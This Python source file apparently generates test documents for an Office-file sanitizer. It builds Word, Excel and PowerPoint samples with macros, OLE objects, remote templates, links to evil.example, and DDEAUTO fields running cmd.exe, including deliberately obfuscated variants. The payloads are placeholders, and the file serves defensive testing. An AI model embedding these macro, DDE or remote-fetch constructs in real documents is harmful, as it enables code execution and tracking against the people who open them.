"""docx, xlsx and pptx with something unsafe."""

from office_file import (HEAD, KEPT, MARK, MS2006, OFFICE, OLE2, OPEN, PNG, VND, W, X, cell, code, docx, field, mark,
                         paragraph, pptx, relations, run, text_box, xlsx)

MACROS, EXTERNAL, EMBEDDED, DDE = "office-macros", "office-external", "office-embedded", "fields-dde"
VBA = "application/vnd.ms-office.vbaProject"
COMMAND = f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {MARK}"'


def vml(inner, picture="rIdP"):
    return ('<w:r><w:object w:dxaOrig="100" w:dyaOrig="100"><v:shape id="s1" style="width:10pt;height:10pt" o:ole="">'
            f'<v:imagedata r:id="{picture}" o:title=""/></v:shape>{inner}</w:object></w:r>')


OBJECT = f'<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" DrawAspect="Icon" ObjectID="{MARK}" r:id="rIdO"/>'
PICTURE_LINK = ("rIdP", "image", "media/image1.png")
PICTURE = ("word/media/image1.png", None, PNG)


def word_macros(add):
    vba = [("word/anything.dat", VBA, OLE2), ("word/_rels/anything.dat.rels", None,
                                              relations([("rId1", MS2006 + "wordVbaData", "more.xml")])),
           ("word/more.xml", "application/vnd.ms-word.vbaData+xml", f"{HEAD}<x>{MARK}</x>")]
    link = ("rIdV", MS2006 + "vbaProject", "anything.dat")
    for end, kind in (("docm", "document.macroEnabled"), ("dotm", "template.macroEnabledTemplate")):
        add(f"macros.{end}", docx(paragraph(run(KEPT)), [link], vba, f"application/vnd.ms-word.{kind}.main+xml"),
            "done", MACROS, end.replace("m", "x"), "a project under another name, with its data")
    add("macros-named.docx", docx(paragraph(run(KEPT)), [link], vba), "done", MACROS, "-", "a project in a docx")
    add("macros-as-image.docx",
        docx(paragraph(run(KEPT)), [("rIdV", MS2006 + "vbaProject", "media/image1.png")],
             [("word/media/image1.png", None, OLE2)]), "done", f"{MACROS},{EMBEDDED}", "-", "a project typed as picture")
    add("toolbars.docx", docx(
        paragraph(run(KEPT)), [("rIdT", MS2006 + "keyMapCustomizations", "keys.xml")],
        [("word/keys.xml", "application/vnd.ms-word.keyMapCustomizations+xml", f"{HEAD}<x>{MARK}</x>"),
         ("word/_rels/keys.xml.rels", None, relations([("rId1", MS2006 + "attachedToolbars", "bars.bin")])),
         ("word/bars.bin", "application/vnd.ms-word.attachedToolbars", OLE2)]), "done", MACROS, "-", "keys and toolbars")
    add("ribbon.docx", docx(paragraph(run(KEPT)), parts=[("ribbon/ui.xml", None, f'<customUI onLoad="{MARK}"/>')],
                            root=[("rId9", MS2006 + "ui/extensibility", "ribbon/ui.xml")]), "done", MACROS, "-",
        "a ribbon of its own")
    add("activex.docx", docx(
        paragraph(run(KEPT) + vml('<w:control r:id="rIdC" w:name="Button" w:shapeid="s1"/>')),
        [("rIdC", "control", "activeX/one.xml"), PICTURE_LINK],
        [PICTURE, ("word/activeX/one.xml", "application/vnd.ms-office.activeX+xml", f"{HEAD}<x>{MARK}</x>"),
         ("word/activeX/_rels/one.xml.rels", None, relations([("rId1", MS2006 + "activeXControlBinary", "one.bin")])),
         ("word/activeX/one.bin", "application/vnd.ms-office.activeX", OLE2)]), "done", MACROS, "-",
        "a control becomes its picture")
    form = ('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/><w:enabled/>'
            f'<w:entryMacro w:val="{MARK}"/><w:textInput/></w:ffData></w:fldChar></w:r>')
    add("form-macro.docx", docx(paragraph(form + code(" FORMTEXT ") + mark("separate") + run(KEPT) + mark("end"))), "done",
        MACROS, "-", "a form field with a macro stays a form field")


def word_external(add):
    for name, kind, what in (("template", "attachedTemplate", "w:attachedTemplate"), ):
        add(f"{name}.docx", docx(paragraph(run(KEPT)), [("rIdS", "settings", "settings.xml")], [
            ("word/settings.xml", VND + "wordprocessingml.settings+xml",
             f'{HEAD}<w:settings {W}><w:zoom w:percent="100"/><{what} r:id="rId1"/></w:settings>'),
            ("word/_rels/settings.xml.rels", None,
             relations([("rId1", kind, f"https://evil.example/{MARK}.dotm", "External")]))]), "done", EXTERNAL, "-",
            "a template from elsewhere")
    picture = ('<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="P"/><a:graphic>'
               f'<a:graphicData uri="{OPEN}/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="P"/>'
               '<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdB"/></pic:blipFill><pic:spPr/></pic:pic>'
               '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')
    add("beacon.docx", docx(paragraph(run(KEPT) + picture),
                            [("rIdB", "image", f"http://evil.example/{MARK}.png", "External")]), "done", EXTERNAL, "-",
        "a linked picture")
    add("beacon-vml.docx", docx(paragraph(run(KEPT) + '<w:r><w:pict><v:shape id="s1" style="width:1pt" '
                                          f'href="file://evil.example/{MARK}"><v:imagedata src="//evil.example/{MARK}.png"'
                                          '/></v:shape></w:pict></w:r>')), "done", EXTERNAL, "-",
        "a picture linked without a relationship")
    for name, target in (("share", f"\\\\evil.example\\{MARK}"), ("file", f"file:///C:/{MARK}.exe"),
                         ("script", f"javascript:{MARK}()"), ("search", f"search-ms:query={MARK}"),
                         ("handler", f"ms-word:ofe|u|https://evil.example/{MARK}"), ("relative", f"../{MARK}.exe"),
                         ("disguised", f"https:\\\\evil.example/{MARK}")):
        add(f"link-{name}.docx", docx(paragraph(f'<w:hyperlink r:id="rIdH">{run(KEPT)}</w:hyperlink>'),
                                      [("rIdH", "hyperlink", target, "External")]), "done", EXTERNAL, "-",
            "a link that launches something; its text stays")
    add("link-internal-lie.docx", docx(paragraph(f'<w:hyperlink r:id="rIdH">{run(KEPT)}</w:hyperlink>'),
                                       [("rIdH", "image", f"http://evil.example/{MARK}")]), "done", EXTERNAL, "-",
        "outside, but not said to be")
    add("links.docx", docx(paragraph("".join(
        f'<w:hyperlink r:id="rId{n}">{run(KEPT)}</w:hyperlink>' for n in range(4))),
        [("rId0", "hyperlink", "https://www.example.org/a?b=c&d#e", "External"),
         ("rId1", "hyperlink", "http://www.example.org", "External"),
         ("rId2", "hyperlink", "mailto:prevent@lewisham.example", "External"), ("rId3", "hyperlink", "#place")]),
        "unchanged", "-", "-", "ordinary links stay")
    add("subdocument.docx", docx(f'<w:subDoc r:id="rIdS"/>' + paragraph(run(KEPT)),
                                 [("rIdS", "subDocument", f"file:///C:/{MARK}.docx", "External")]), "done", EXTERNAL, "-",
        "a document from elsewhere")
    add("frames.docx", docx(paragraph(run(KEPT)), [("rIdW", "webSettings", "web.xml")], [
        ("word/web.xml", VND + "wordprocessingml.webSettings+xml",
         f'{HEAD}<w:webSettings {W}><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'
         '</w:webSettings>'),
        ("word/_rels/web.xml.rels", None, relations([("rId1", "frame", f"http://evil.example/{MARK}", "External")]))]),
        "done", EXTERNAL, "-", "frames")
    add("schemas.docx", docx(paragraph(run(KEPT)), [("rIdS", "settings", "settings.xml")], [
        ("word/settings.xml", VND + "wordprocessingml.settings+xml",
         f'{HEAD}<w:settings {W}><sl:schemaLibrary xmlns:sl="{OPEN}/schemaLibrary/2006/main"><sl:schema '
         f'sl:manifestLocation="http://evil.example/{MARK}"/></sl:schemaLibrary></w:settings>')]), "done", EXTERNAL, "-",
        "a schema fetched from elsewhere")
    add("mail-merge.docx", docx(paragraph(run(KEPT)), [("rIdS", "settings", "settings.xml")], [
        ("word/settings.xml", VND + "wordprocessingml.settings+xml",
         f'{HEAD}<w:settings {W}><w:mailMerge><w:connectString w:val="{MARK}"/><w:dataSource r:id="rId1"/></w:mailMerge>'
         '</w:settings>'),
        ("word/_rels/settings.xml.rels", None, relations([("rId1", "mailMergeSource", f"file:///{MARK}", "External")]))]),
        "done", EXTERNAL, "-", "a data source")
    add("taskpane.docx", docx(paragraph(run(KEPT)), parts=[
        ("web/panes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", f'<t xmlns:r="{OFFICE[:-1]}" r:id="rId1"/>'),
        ("web/_rels/panes.xml.rels", None, relations([(
            "rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension", "one.xml")])),
        ("web/one.xml", "application/vnd.ms-office.webextension+xml", f"<e>{MARK}</e>")],
        root=[("rId9", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "web/panes.xml")]),
        "done", EXTERNAL, "-", "a web add-in")


def word_embedded(add):
    parts = [PICTURE, ("word/embeddings/one.bin", VND + "oleObject", OLE2)]
    link = ("rIdO", "oleObject", "embeddings/one.bin")
    add("ole.docx", docx(paragraph(run(KEPT) + vml(OBJECT)), [link, PICTURE_LINK], parts), "done", EMBEDDED, "-",
        "an object becomes its picture")
    add("ole-without-picture.docx", docx(paragraph(run(KEPT) + f"<w:r><w:object>{OBJECT}</w:object></w:r>"), [link],
                                         parts[1:]), "done", EMBEDDED, "-", "an object without a picture goes")
    add("ole-link.docx", docx(paragraph(run(KEPT) + vml(OBJECT.replace("Embed", "Link"))),
                              [("rIdO", "oleObject", f"file:///C:/{MARK}", "External"), PICTURE_LINK], [PICTURE]), "done",
        f"{EXTERNAL},{EMBEDDED}", "-", "a linked object")
    add("package.docx", docx(paragraph(run(KEPT) + vml(OBJECT)),
                             [("rIdO", "package", "embeddings/book.xlsx"), PICTURE_LINK],
                             [PICTURE, ("word/embeddings/book.xlsx", VND + "spreadsheetml.sheet", b"PK\3\4" + MARK.encode())
                              ]), "done", EMBEDDED, "-", "an embedded workbook")
    add("chunk.docx", docx(f'<w:altChunk r:id="rIdA"/>' + paragraph(run(KEPT)), [("rIdA", "aFChunk", "chunk.html")],
                           [("word/chunk.html", "text/html", f"<html><script>{MARK}</script>")]), "done", EMBEDDED, "-",
        "a chunk of another format")
    add("stray.docx", docx(paragraph(run(KEPT)), parts=[("word/stray.exe", None, b"MZ" + MARK.encode())]), "done", EMBEDDED,
        "-", "a file without a type")
    add("stray-typed.docx", docx(paragraph(run(KEPT)), parts=[("word/media/stray.png", None, b"MZ" + MARK.encode())]),
        "done", EMBEDDED, "-", "a program typed as a picture")
    # Both of an alternative.
    both = ('<w:r><mc:AlternateContent><mc:Choice Requires="z"><w:object><v:shape id="s1"><v:imagedata r:id="rIdP"/>'
            f'</v:shape>{OBJECT}</w:object></mc:Choice><mc:Fallback><w:object>{OBJECT}</w:object></mc:Fallback>'
            '</mc:AlternateContent></w:r>')
    add("ole-alternatives.docx", docx(paragraph(run(KEPT) + both), [link, PICTURE_LINK], parts), "done", EMBEDDED, "-",
        "in both alternatives")


def word_fields(add):
    split = code("D", "DE", "AU", "TO ", f'c:\\\\x "{MARK}"')
    cases = (
        ("dde", field(code(f" {COMMAND} ")), DDE, "DDEAUTO"),
        ("dde-split", field(split), DDE, "split over runs"),
        ("dde-comment", field(f"<w:r><w:instrText>DD<!-- x -->EAUTO<![CDATA[ c:\\\\x {MARK}]]></w:instrText></w:r>"), DDE,
         "split by a comment"),
        ("dde-entity", field(f"<w:r><w:instrText>&#68;&#x44;E {MARK}</w:instrText></w:r>"), DDE, "written as references"),
        ("dde-lower", field(code(f"ddeAuto {MARK}")), DDE, "in small letters"),
        ("dde-paragraphs", mark("begin") + code("DDE") + "</w:p><w:p>" + code(f"AUTO {MARK}") + mark("separate") + run(KEPT) +
         mark("end"), DDE, "over two paragraphs"),
        ("dde-deleted", field(code("DD") + '<w:del w:id="1" w:author="A"><w:r><w:delInstrText>XX</w:delInstrText></w:r>'
                              '</w:del>' + code(f"EAUTO {MARK}")), DDE, "with a deleted piece within"),
        ("dde-ignorable", field(code("DD") + "<z:x>" + code("XX") + "</z:x>" + code(f"E {MARK}")), DDE,
         "with a piece within that programs ignore"),
        ("dde-nested", field(mark("begin") + code("QUOTE 68 68 69") + mark("separate") + run("DDE") + mark("end") +
                             code(f" {MARK}")), DDE, "built by QUOTE"),
        ("dde-in-if", field(code("IF 1=1 ") + field(code(f"DDE {MARK}"), "") + code(' "b"')), DDE, "in an ordinary field"),
        ("dde-simple", f'<w:fldSimple w:instr=" DDEAUTO c:\\x {MARK} ">{run(KEPT)}</w:fldSimple>', DDE, "a simple field"),
        ("dde-unclosed", mark("begin") + code(f"DDE {MARK}") + run(KEPT) if False else mark("begin") + code(f"DDE {MARK}") +
         mark("separate") + run(KEPT), DDE, "never closed"),
        ("include-text", field(code(f'INCLUDETEXT "\\\\\\\\evil.example\\\\{MARK}"')), DDE, "INCLUDETEXT"),
        ("include-picture", field(code(f'INCLUDEPICTURE "http://evil.example/{MARK}.png" \\d')), DDE, "INCLUDEPICTURE"),
        ("import", field(code(f"IMPORT {MARK}")), DDE, "IMPORT"), ("link", field(code(f"LINK Excel.Sheet {MARK}")), DDE, "LINK"),
        ("embed", field(code(f"EMBED Package {MARK}")), EMBEDDED, "EMBED"),
        ("hyperlink-field", field(code(f'HYPERLINK "file://evil.example/{MARK}"')), EXTERNAL, "a link to a share"),
        ("hyperlink-switch", field(code(f'HYPERLINK \\o "hint" "file:///{MARK}"')), EXTERNAL, "behind a switch"))
    for name, content, classes, note in cases:
        add(f"field-{name}.docx", docx(paragraph(content)), "done", classes, "-", note)
    add("field-alternative-end.docx", docx(paragraph(
        mark("begin") + code("DD") + '<mc:AlternateContent><mc:Choice Requires="z">' + mark("end") +
        "</mc:Choice></mc:AlternateContent>" + code(f"EAUTO {MARK}") + mark("separate") + run(KEPT) + mark("end"))),
        "impossible", "-", "-", "a field whose end only some programs see")
    add("fields.docx", docx(paragraph(field(code(" PAGE ")) + field(code(' REF here \\h ')) + field(
        code(' HYPERLINK "https://www.example.org/" \\o "hint" ')) + field(code(' HYPERLINK \\l "place" ')) +
        field(code(" MACROBUTTON NoMacro [Type here] ")) + field(code(" FORMTEXT ")) + field(code(" = 1 + 2 ")) +
        field(code("IF ") + field(code("PAGE"), "1") + code(' = 1 "a" "b"')) +
        f'<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM&quot; ">{run(KEPT)}</w:fldSimple>')), "unchanged", "-", "-",
        "ordinary fields stay")


def word_refused(add):
    body = paragraph(run(KEPT) + vml(OBJECT))
    signed = docx(body, [("rIdO", "oleObject", "one.bin"), PICTURE_LINK],
                  [PICTURE, ("word/one.bin", VND + "oleObject", OLE2),
                   ("_xmlsignatures/origin.sigs", "application/vnd.openxmlformats-package.digital-signature-origin", b"")],
                  root=[("rId8", f"{OPEN}/package/2006/relationships/digital-signature/origin",
                         "_xmlsignatures/origin.sigs")])
    add("signed.docx", signed, "impossible", EMBEDDED, "-", "signed, and would have to change")
    add("doctype.docx", docx(paragraph(run(KEPT)), [("rIdS", "settings", "settings.xml")], [
        ("word/settings.xml", VND + "wordprocessingml.settings+xml",
         f'<!DOCTYPE x [<!ENTITY a "{MARK}">]><w:settings {W}/>')]), "impossible", "-", "-", "a DOCTYPE")
    add("utf-16.docx", docx(paragraph(run(KEPT)), [("rIdF", "footnotes", "notes.xml")], [
        ("word/notes.xml", VND + "wordprocessingml.footnotes+xml",
         f'<?xml version="1.0" encoding="UTF-16"?><w:footnotes {W}><w:footnote w:id="2">{paragraph(field(code(COMMAND)))}'
         '</w:footnote></w:footnotes>'.encode("utf-16"))]), "impossible", DDE, "-", "a field in UTF-16")
    add("utf-16-plain.docx", docx(paragraph(run(KEPT)), [("rIdF", "customXml", "../custom.xml")], [
        ("custom.xml", None, '<?xml version="1.0" encoding="UTF-16"?><a>\u00e9</a>'.encode("utf-16"))]), "unchanged", "-",
        "-", "data in UTF-16")
    add("cut-tags.docx", docx("<w:p><w:r></w:p></w:r>"), "impossible", "-", "-", "no XML")
    add("addin.xlam", xlsx(cell("A1"), main_type="application/vnd.ms-excel.addin.macroEnabled.main+xml"), "impossible",
        MACROS, "-", "an add-in has no macro-free type")
    add("binary.xlsb", xlsx(cell("A1"), main_type="application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "impossible",
        f"{MACROS},{EMBEDDED}", "-", "a binary workbook")


def excel(add):
    vba = [("xl/vbaProject.bin", VBA, OLE2)]
    add("macros.xlsm", xlsx(cell("A1"), [("rIdV", MS2006 + "vbaProject", "vbaProject.bin")], vba,
                            main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "done", MACROS, "xlsx",
        "a project")
    names = (f'<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1{MARK}</definedName>'
             '<definedName name="Local" localSheetId="1">One!$A$1</definedName>'
             f'<definedName name="Gone" localSheetId="0">{MARK}</definedName></definedNames>')
    add("macro-sheet.xlsm", xlsx(
        cell("A1"), [("rIdM", MS2006 + "xlMacrosheet", "macrosheets/one.xml")],
        [("xl/macrosheets/one.xml", "application/vnd.ms-excel.macrosheet+xml",
          f'{HEAD}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">{MARK}</xm:macrosheet>')],
        names, main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        sheets='<sheet name="Macro1" sheetId="2" state="hidden" r:id="rIdM"/><sheet name="One" sheetId="1" r:id="rIdOne"/>',
        view='<bookViews><workbookView activeTab="1"/></bookViews>'), "done", MACROS, "xlsx", "an Excel 4 macro sheet")
    book = (f'{HEAD}<externalLink {X}><externalBook r:id="rId1"><sheetNames><sheetName val="{MARK}"/></sheetNames>'
            '</externalBook></externalLink>')
    add("external-link.xlsx", xlsx(
        cell("A1", "[1]Sheet1!A1") + cell("A2", "A1*2", "84") + cell("A3", "'[1]Two words'!$B$2"),
        [("rIdE", "externalLink", "externalLinks/one.xml"), ("rIdC", "calcChain", "calcChain.xml")],
        [("xl/externalLinks/one.xml", VND + "spreadsheetml.externalLink+xml", book),
         ("xl/externalLinks/_rels/one.xml.rels", None,
          relations([("rId1", "externalLinkPath", f"file:///C:/{MARK}.xlsx", "External")])),
         ("xl/calcChain.xml", VND + "spreadsheetml.calcChain+xml", f'{HEAD}<calcChain {X}><c r="A1" i="1"/></calcChain>')],
        '<externalReferences><externalReference r:id="rIdE"/></externalReferences>'), "done", EXTERNAL, "-",
        "another workbook; values stay")
    dde = f'{HEAD}<externalLink {X}><ddeLink ddeService="cmd" ddeTopic="/c {MARK}"/></externalLink>'
    add("dde.xlsx", xlsx(cell("A1", f"cmd|'/c {MARK}'!A0") + cell("A2", "[1]!'A0'"),
                         [("rIdE", "externalLink", "externalLinks/one.xml")],
                         [("xl/externalLinks/one.xml", VND + "spreadsheetml.externalLink+xml", dde)],
                         '<externalReferences><externalReference r:id="rIdE"/></externalReferences>'), "done",
        f"{EXTERNAL},{DDE}", "-", "DDE")
    add("formulas.xlsx", xlsx(
        cell("A1", f'_xlfn.WEBSERVICE("http://evil.example/{MARK}")') + cell("A2", f'CALL("urlmon","{MARK}")') +
        cell("A3", f'HYPERLINK("\\\\evil.example\\{MARK}","x")') + cell("A4", "WEBSERVICE(B1)", attributes=
                                                                           ' t="shared" ref="A4:A5" si="3"') +
        cell("A5", attributes=' t="shared" si="3"') + cell("A6", 'HYPERLINK("https://www.example.org","x")&amp;"|[1]"')),
        "done", f"{MACROS},{EXTERNAL}", "-", "functions that reach out")
    add("ordinary.xlsx", xlsx(
        cell("A1", 'SUM(Table1[[#This Row],[Value]])+Table1[1]') + cell("A2", "'A sheet'!A1*One!$B$2") +
        cell("A3", 'HYPERLINK("https://www.example.org","[1] a|b")') + cell("A4", 'IF(A1="it\'s [1]",1,2)'),
        workbook='<definedNames><definedName name="Here" localSheetId="0">One!$A$1</definedName></definedNames>',
        after='<hyperlinks><hyperlink ref="A1" r:id="rIdH"/></hyperlinks>',
        sheet_links=[("rIdH", "hyperlink", "https://www.example.org", "External")]), "unchanged", "-", "-",
        "ordinary formulas, names and links stay")
    add("connections.xlsx", xlsx(cell("A1"), [("rIdC", "connections", "connections.xml")], [
        ("xl/connections.xml", VND + "spreadsheetml.connections+xml", f'{HEAD}<connections {X}>{MARK}</connections>'),
        ("xl/tables/one.xml", VND + "spreadsheetml.table+xml",
         f'{HEAD}<table {X} id="1" name="T" displayName="T" ref="A1:A2" tableType="queryTable"><tableColumns count="1">'
         '<tableColumn id="1" name="42" queryTableFieldId="1"/></tableColumns></table>'),
        ("xl/tables/_rels/one.xml.rels", None, relations([("rId1", "queryTable", "../queries/one.xml")])),
        ("xl/queries/one.xml", VND + "spreadsheetml.queryTable+xml", f'{HEAD}<queryTable {X} name="{MARK}"/>')],
        after='<tableParts count="1"><tablePart r:id="rIdT"/></tableParts>',
        sheet_links=[("rIdT", "table", "../tables/one.xml")]), "done", EXTERNAL, "-", "a connection and its query")
    add("ole.xlsx", xlsx(cell("A1"), after='<oleObjects><oleObject progId="Package" shapeId="1" r:id="rIdO"/></oleObjects>'
                         '<controls><control shapeId="2" r:id="rIdX" name="B"/></controls>', parts=[
                             ("xl/embeddings/one.bin", VND + "oleObject", OLE2),
                             ("xl/activeX/one.xml", "application/vnd.ms-office.activeX+xml", f"<x>{MARK}</x>")],
                         sheet_links=[("rIdO", "oleObject", "../embeddings/one.bin"),
                                      ("rIdX", "control", "../activeX/one.xml")]), "done", f"{MACROS},{EMBEDDED}", "-",
        "an object and a control")
    drawing = (f'{HEAD}<xdr:wsDr xmlns:xdr="{OPEN}/drawingml/2006/spreadsheetDrawing" xmlns:a="{OPEN}/drawingml/2006/main">'
               f'<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="1" cy="1"/><xdr:sp macro="[0]!{MARK}" textlink="">'
               '<xdr:nvSpPr><xdr:cNvPr id="2" name="B"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/>'
               '</xdr:absoluteAnchor></xdr:wsDr>')
    comments = ('<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="s" style="visibility:hidden"><v:textbox><div><br></div></v:textbox>'
                '</v:shape></xml>')
    add("button.xlsx", xlsx(cell("A1"), after='<drawing r:id="rIdD"/><legacyDrawing r:id="rIdL"/>', parts=[
        ("xl/drawings/one.xml", VND + "drawing+xml", drawing),
        ("xl/drawings/two.vml", VND + "vmlDrawing", comments)],
        sheet_links=[("rIdD", "drawing", "../drawings/one.xml"), ("rIdL", "vmlDrawing", "../drawings/two.vml")]), "done",
        MACROS, "-", "a button with a macro; a drawing of Excel's that is no XML")
    printer = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
               '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PMOrientation</key>'
               '<integer>1</integer></dict></plist>\n')
    printed = [("xl/printerSettings/one.bin", VND + "spreadsheetml.printerSettings", printer),
               ("xl/metadata", "application/binary", "\x0a\x02{}")]
    links = [("rIdP", "printerSettings", "../printerSettings/one.bin")]
    add("printer.xlsx", xlsx(cell("A1"), after='<pageSetup r:id="rIdP"/>', parts=printed, sheet_links=links), "unchanged",
        "-", "-", "a Mac's printer, and what Google keeps for itself")
    add("printer-formula.xlsx", xlsx(cell("A1", f"cmd|'{MARK}'!A0"), after='<pageSetup r:id="rIdP"/>', parts=printed,
                                     sheet_links=links), "done", DDE, "-", "the same, and something unsafe")


def powerpoint(add):
    add("macros.pptm", pptx(text_box(KEPT), [("rIdV", MS2006 + "vbaProject", "../vbaProject.bin")],
                            [("ppt/vbaProject.bin", VBA, OLE2)],
                            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"), "done", MACROS, "pptx",
        "a project")
    for name, action, classes in (("macro", f"ppaction://macro?name={MARK}", MACROS),
                                  ("program", "ppaction://program", EXTERNAL)):
        add(f"action-{name}.pptx", pptx(text_box(KEPT, f'<a:hlinkClick r:id="rIdA" action="{action}"/>'), [
            ("rIdA", "hyperlink", f"file:///C:/{MARK}.exe", "External")]), "done",
            ",".join(sorted({classes, EXTERNAL}, key=[MACROS, EXTERNAL].index)), "-", "a button that runs something")
    add("action-jump.pptx", pptx(text_box(KEPT, '<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>')),
        "unchanged", "-", "-", "a button that turns the page")
    frame = ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="5" name="O"/><p:cNvGraphicFramePr/><p:nvPr/>'
             '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic><a:graphicData '
             f'uri="{OPEN}/presentationml/2006/ole"><mc:AlternateContent><mc:Choice Requires="v"><p:oleObj '
             f'name="{MARK}" r:id="rIdO" progId="Package"><p:embed/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj '
             'r:id="rIdO" progId="Package"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/>'
             '</p:nvPicPr><p:blipFill><a:blip r:embed="rIdP"/><a:stretch/></p:blipFill><p:spPr><a:prstGeom prst="rect"/>'
             '</p:spPr></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic>'
             '</p:graphicFrame>')
    add("ole.pptx", pptx(text_box(KEPT) + frame, [("rIdO", "oleObject", "../embeddings/one.bin"),
                                                  ("rIdP", "image", "../media/one.png")],
                         [("ppt/embeddings/one.bin", VND + "oleObject", OLE2), ("ppt/media/one.png", None, PNG)]), "done",
        EMBEDDED, "-", "an object becomes its picture")
    add("media.pptx", pptx(text_box(KEPT).replace('<p:nvPr/>', '<p:nvPr><a:videoFile r:link="rIdM"/></p:nvPr>'),
                           [("rIdM", "video", f"file://evil.example/{MARK}.mp4", "External")]), "done", EXTERNAL, "-",
        "a film from elsewhere")


def make(add):
    for part in (word_macros, word_external, word_embedded, word_fields, word_refused, excel, powerpoint):
        part(add)
